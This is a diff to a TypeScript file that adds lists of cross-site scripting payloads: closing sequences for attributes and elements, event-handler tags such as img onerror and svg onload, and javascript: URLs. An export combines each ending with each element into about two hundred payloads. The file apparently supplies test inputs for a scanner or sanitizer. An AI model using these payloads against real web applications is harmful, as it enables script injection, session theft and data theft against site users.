@@ -76,3 +76,41 @@ export const xssPayloads: string[] = [
   `{{constructor.constructor('${call}')()}}`,
   `\u202e<script>${call}</script>`,
 ]
+
+// What ends the attribute, element or text that a value stands in.
+const endings = [
+  '',
+  '"',
+  "'",
+  '">',
+  "'>",
+  '`>',
+  '</textarea>',
+  '</option></select>',
+  '</bdi>',
+  '</title>',
+  '</button></form>',
+]
+const elements = [
+  `<img src=x onerror=${call}>`,
+  `<svg onload=${call}>`,
+  `<details open ontoggle=${call}>`,
+  `<input autofocus onfocus=${call}>`,
+  `<select autofocus onfocus=${call}>`,
+  `<video src=x onerror=${call}>`,
+  `<audio src=x onerror=${call}>`,
+  `<marquee onstart=${call}>`,
+  `<body onpageshow=${call}>`,
+  `<a autofocus href="javascript:${call}" onfocus=${call}>x</a>`,
+  `<iframe src="javascript:parent.${call}">`,
+  `<form action="javascript:${call}"><button autofocus onfocus=${call}>x</button>`,
+  `<style onload=${call}></style>`,
+]
+
+/** Two hundred of them (S9): those above, and each element after each ending. */
+export const manyXssPayloads: string[] = [
+  ...new Set([
+    ...xssPayloads,
+    ...endings.flatMap((ending) => elements.map((element) => `${ending}${element}`)),
+  ]),
+]
